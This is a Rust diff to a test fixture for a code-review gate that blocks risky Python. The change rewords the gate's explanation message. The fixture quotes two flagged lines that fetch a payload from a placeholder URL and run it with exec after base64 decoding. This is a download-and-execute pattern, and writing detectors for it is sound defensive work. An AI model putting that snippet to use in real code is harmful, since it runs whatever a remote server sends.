@@ -34,7 +34,7 @@ pub fn asked() -> OverrideAsked {
     OverrideAsked {
         level: Level::Blocked,
         // As the gate writes it: Airlock's sentence first, the requester's label after it as data.
-        explanation: "External python code rated BLOCKED: Downloads code from the network and runs it.\n- label given by the requester: \"fetch_report.py\"\n".into(),
+        explanation: "External python code rated BLOCKED, 2 findings.\nWhat it does: downloads code from the network and runs it.\n- label given by the requester: \"fetch_report.py\"\n".into(),
         findings: vec![
             finding(3, "AIR-PY-EXEC-DOWNLOADED", Level::Blocked, "exec(base64.b64decode(payload))", "Data fetched from the network is executed: what runs is decided by the server at run time, not by the code that was reviewed."),
             finding(2, "AIR-PY-URLOPEN-SCHEME", Level::Low, "payload = urllib.request.urlopen('http://reports.example/p').read()", "urllib follows file:// and custom schemes as well as http(s)."),
